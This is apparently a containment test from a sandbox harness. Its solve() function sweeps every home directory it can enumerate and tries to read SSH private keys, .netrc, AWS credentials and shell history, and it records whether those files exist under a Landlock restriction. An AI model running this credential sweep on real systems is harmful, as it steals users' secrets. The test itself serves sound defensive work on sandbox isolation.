# attack: read keys in the home folders of the user, of root and of everyone else
# contained-at: namespaces restricted
# expect: seed-score
# bites-at: none
import os
import pwd

from kit import *


def solve(instance):
    homes = {host.HOME, "/root", os.path.expanduser("~"), "/tmp"}
    with quietly():
        homes |= {entry.pw_dir for entry in pwd.getpwall()}
    with quietly():
        homes |= {f"/home/{name}" for name in os.listdir("/home")}
    for home in homes:
        for name in (".ssh/id_rsa", ".config/journeyman/key", ".netrc", ".aws/credentials", ".bash_history"):
            steal(f"{home}/{name}")
            with quietly():
                # Landlock tells whether a file is there, and its size and times, but nothing that is in it.
                if host.LEVEL != "restricted" and os.stat(f"{home}/{name}"):
                    got(f"{home}/{name} is there")
    with quietly():
        got(os.listdir(host.HOME))
    return answer(instance)
